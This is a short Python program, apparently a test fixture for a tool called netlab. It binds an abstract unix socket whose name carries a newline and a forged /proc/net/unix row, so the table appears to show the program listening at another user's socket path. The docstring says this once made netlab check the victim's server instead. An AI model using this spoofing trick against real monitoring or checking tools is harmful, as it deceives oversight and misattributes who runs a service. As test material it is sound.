"""A program that serves nothing, but binds an abstract unix socket whose name holds a
newline and, after it, a forged ``/proc/net/unix`` row: a listening stream socket at
VICTIM_PATH (someone else's server), with the inode of this program's own socket. Read as
text, the table then says this program listens at VICTIM_PATH, and netlab once checked the
victim's server in its place (15 of 17 passed). Arguments: VICTIM_PATH."""
import os
import socket
import sys
import time

victim = sys.argv[1]
sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
inode = os.fstat(sock.fileno()).st_ino
forged = f"0000000000000000: 00000002 00000000 00010000 0001 01 {inode} {victim}"
sock.bind(f"\0x\n{forged}".encode())
while True:
    time.sleep(1)
